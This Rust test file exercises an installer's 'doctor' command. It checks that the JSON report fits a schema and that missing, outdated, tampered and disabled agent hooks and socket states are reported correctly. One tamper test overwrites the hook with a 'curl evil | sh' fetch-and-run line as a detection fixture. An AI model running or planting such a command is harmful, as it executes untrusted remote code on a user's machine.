//! `vults-app doctor --json`: the report matches docs/doctor.schema.json, and the exit status
//! follows the states (real Claude Code and Qwen Code settings from the corpus).

use crate::common::{TempHome, corpus_dir};
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use vults_installer::doctor;
use vults_installer::{Agent, InstallOptions};

fn schema() -> Value {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/doctor.schema.json");
    serde_json::from_slice(&fs::read(p).unwrap()).unwrap()
}

/// Checks `v` against the parts of JSON Schema the doctor's schema uses: `type` (one or a
/// list), `enum`, `required`, `properties`, `additionalProperties: false` and `items`.
fn validate(schema: &Value, v: &Value, at: &str) -> Result<(), String> {
    if let Some(t) = schema.get("type") {
        let types: Vec<&str> = match t {
            Value::String(s) => vec![s.as_str()],
            Value::Array(a) => a.iter().filter_map(Value::as_str).collect(),
            _ => return Err(format!("{at}: bad type in schema")),
        };
        let ok = types.iter().any(|t| match *t {
            "object" => v.is_object(),
            "array" => v.is_array(),
            "string" => v.is_string(),
            "boolean" => v.is_boolean(),
            "integer" => v.is_u64() || v.is_i64(),
            "number" => v.is_number(),
            "null" => v.is_null(),
            _ => false,
        });
        if !ok {
            return Err(format!("{at}: {v} is not {types:?}"));
        }
    }
    if let Some(e) = schema.get("enum").and_then(Value::as_array)
        && !e.contains(v)
    {
        return Err(format!("{at}: {v} is not one of {e:?}"));
    }
    if let Some(obj) = v.as_object() {
        for r in schema
            .get("required")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
        {
            let r = r.as_str().unwrap();
            if !obj.contains_key(r) {
                return Err(format!("{at}: {r} is missing"));
            }
        }
        let props = schema.get("properties").and_then(Value::as_object);
        for (k, x) in obj {
            match props.and_then(|p| p.get(k)) {
                Some(s) => validate(s, x, &format!("{at}.{k}"))?,
                None if schema.get("additionalProperties") == Some(&Value::Bool(false)) => {
                    return Err(format!("{at}: {k} is not in the schema"));
                }
                None => {}
            }
        }
    }
    if let (Some(items), Some(a)) = (schema.get("items"), v.as_array()) {
        for (i, x) in a.iter().enumerate() {
            validate(items, x, &format!("{at}[{i}]"))?;
        }
    }
    Ok(())
}

fn json_doctor(home: &TempHome, hook: &Path, fix: bool) -> (Value, i32) {
    let (out, code) = doctor::run(&home.paths(), Some(hook), true, fix);
    let v: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}"));
    validate(&schema(), &v, "$").unwrap_or_else(|e| panic!("{e}\n{out}"));
    assert_eq!(
        v["ok"],
        Value::Bool(code == 0),
        "ok follows the exit status: {out}"
    );
    (v, code)
}

fn agent<'a>(v: &'a Value, name: &str) -> &'a Value {
    v["agents"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["agent"] == name)
        .unwrap_or_else(|| panic!("no {name} in {v}"))
}

fn with_real_agents(name: &str) -> (TempHome, PathBuf, PathBuf, PathBuf) {
    let home = TempHome::new(name);
    let claude = home.home().join(".claude/settings.json");
    let qwen = home.home().join(".qwen/settings.json");
    for (file, fixture) in [
        (&claude, "claude/rtk-hook.json"),
        (&qwen, "qwen/settings-real.json"),
    ] {
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::copy(corpus_dir().join(fixture), file).unwrap();
    }
    let hook = home.hook_source("1");
    (home, hook, claude, qwen)
}

#[test]
fn the_schema_checker_rejects_what_it_should() {
    let s = schema();
    let good = serde_json::json!({"schema":1,"ok":true,"agents":[],"hook":{"path":"/h","state":"verified","same_as_app":null},
        "socket":{"path":"/s","state":"running","problem":false,"detail":""},"log_file":"/l","fixed":[]});
    validate(&s, &good, "$").unwrap();
    for (ptr, bad) in [
        ("/ok", serde_json::json!("yes")),
        ("/hook/state", serde_json::json!("fine")),
        ("/schema", serde_json::json!(2)),
    ] {
        let mut v = good.clone();
        *v.pointer_mut(ptr).unwrap() = bad;
        assert!(validate(&s, &v, "$").is_err(), "{ptr}");
    }
    let mut extra = good.clone();
    extra["surprise"] = Value::Null;
    assert!(validate(&s, &extra, "$").is_err());
}

#[test]
fn doctor_json_matches_the_schema_and_its_exit_status_follows_the_states() {
    let (home, hook, claude, qwen) = with_real_agents("doctor-states");
    let paths = home.paths();

    // Nothing installed yet: both agents' hooks are missing.
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(code, 1);
    assert_eq!(agent(&v, "claude")["state"], "missing");
    assert_eq!(agent(&v, "qwen")["problem"], true);
    assert_eq!(agent(&v, "codex")["state"], "not_found");
    assert_eq!(agent(&v, "codex")["problem"], false);
    #[cfg(unix)]
    assert_eq!(v["socket"]["state"], "not_running");

    vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(code, 0, "{v}");
    assert_eq!(agent(&v, "claude")["state"], "installed");
    assert_eq!(agent(&v, "qwen")["state"], "installed");
    assert_eq!(v["hook"]["state"], "verified");
    assert_eq!(v["hook"]["same_as_app"], true);

    // Another program puts Qwen Code's file back as it was: missing.
    let installed_qwen = fs::read(&qwen).unwrap();
    fs::copy(corpus_dir().join("qwen/settings-real.json"), &qwen).unwrap();
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(code, 1);
    assert_eq!(agent(&v, "qwen")["state"], "missing");
    assert_eq!(agent(&v, "claude")["state"], "installed");
    fs::write(&qwen, &installed_qwen).unwrap();

    // Vults' entry altered: outdated.
    let text = fs::read_to_string(&claude).unwrap();
    fs::write(&claude, text.replacen("\"timeout\": ", "\"timeout\": 9", 1)).unwrap();
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(code, 1, "{v}");
    assert_eq!(agent(&v, "claude")["state"], "outdated");
    fs::write(&claude, &text).unwrap();
    assert_eq!(json_doctor(&home, &hook, false).1, 0);

    // The hook copy tampered with.
    let copy = fs::read(paths.installed_hook()).unwrap();
    fs::write(paths.installed_hook(), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(code, 1);
    assert_eq!(agent(&v, "claude")["state"], "tampered");
    assert_eq!(v["hook"]["state"], "tampered");
    fs::write(paths.installed_hook(), &copy).unwrap();

    // Unreadable: a file that does not parse.
    fs::write(&qwen, "{\"model\": ").unwrap();
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(code, 1);
    assert_eq!(agent(&v, "qwen")["state"], "unparsable");
    fs::write(&qwen, &installed_qwen).unwrap();

    // Turned off in Settings → Agents: not a problem.
    vults_installer::state::set_enabled(&paths, "qwen", false).unwrap();
    vults_installer::repair(&paths, Agent::Qwen);
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(agent(&v, "qwen")["state"], "disabled");
    assert_eq!(code, 0, "{v}");
}

#[cfg(unix)]
#[test]
fn the_socket_must_be_the_apps() {
    let (home, hook, _, _) = with_real_agents("doctor-socket");
    let paths = home.paths();
    vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    let dir = paths.socket.parent().unwrap().to_path_buf();
    fs::create_dir_all(&dir).unwrap();
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o700)).unwrap();

    let listener = std::os::unix::net::UnixListener::bind(&paths.socket).unwrap();
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(v["socket"]["state"], "running");
    assert_eq!(code, 0);
    drop(listener);
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(v["socket"]["state"], "stale", "{v}");
    assert_eq!(code, 0);

    fs::remove_file(&paths.socket).unwrap();
    fs::write(&paths.socket, "not a socket").unwrap();
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(v["socket"]["state"], "not_the_apps");
    assert_eq!(v["socket"]["problem"], true);
    assert_eq!(code, 1);
    // --fix does not touch it, and says so.
    let (v, code) = json_doctor(&home, &hook, true);
    assert_eq!(code, 1);
    assert!(
        v["fixed"][0].as_str().unwrap().contains("is not the app's"),
        "{v}"
    );
    assert!(paths.socket.is_file());
    fs::remove_file(&paths.socket).unwrap();

    // A folder others may write into is not the app's either.
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o777)).unwrap();
    let _l = std::os::unix::net::UnixListener::bind(&paths.socket).unwrap();
    let (v, code) = json_doctor(&home, &hook, false);
    assert_eq!(v["socket"]["state"], "not_the_apps", "{v}");
    assert_eq!(code, 1);
}

#[test]
fn fix_repairs_what_it_can_and_says_what_it_did() {
    let (home, hook, claude, qwen) = with_real_agents("doctor-fix");
    let paths = home.paths();
    vults_installer::install_all(&paths, &hook, &InstallOptions::default());
    let installed = fs::read(&claude).unwrap();
    fs::copy(corpus_dir().join("claude/rtk-hook.json"), &claude).unwrap();
    fs::write(&qwen, "{ not json").unwrap();
    let (v, code) = json_doctor(&home, &hook, true);
    assert_eq!(code, 1, "the unparsable file is left: {v}");
    let fixed: Vec<&str> = v["fixed"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(
        fixed
            .iter()
            .any(|f| f.starts_with("Claude Code: put Vults' hook back in ")),
        "{fixed:?}"
    );
    assert!(
        fixed
            .iter()
            .any(|f| f.starts_with("Qwen Code: not repaired")),
        "{fixed:?}"
    );
    assert_eq!(
        fs::read(&claude).unwrap(),
        installed,
        "put back as it was installed"
    );
    assert_eq!(
        fs::read_to_string(&qwen).unwrap(),
        "{ not json",
        "never written"
    );
    fs::copy(corpus_dir().join("qwen/settings-real.json"), &qwen).unwrap();
    let (out, code) = doctor::run(&paths, Some(&hook), false, true);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("Fixed: Qwen Code: put Vults' hook back in "),
        "{out}"
    );
    let (out, code) = doctor::run(&paths, Some(&hook), false, false);
    assert_eq!(code, 0);
    assert!(!out.contains("Fixed:"), "{out}");
    assert!(out.contains("Log file: "), "{out}");
}

#[test]
fn the_cli_prints_the_json_and_exits_with_its_status() {
    let (home, hook, _, qwen) = with_real_agents("doctor-cli");
    let hook_arg = hook.to_string_lossy().into_owned();
    let out = home.cli(&["install", "--hook", &hook_arg]);
    assert!(out.status.success(), "{out:?}");
    let out = home.cli(&["doctor", "--json", "--hook", &hook_arg]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    validate(&schema(), &v, "$").unwrap();
    fs::copy(corpus_dir().join("qwen/settings-real.json"), &qwen).unwrap();
    let out = home.cli(&["doctor", "--json", "--hook", &hook_arg]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let out = home.cli(&["doctor", "--hook", &hook_arg, "--fix"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("Fixed: Qwen Code"));
    assert_eq!(home.cli(&["doctor", "--bogus"]).status.code(), Some(2));
}
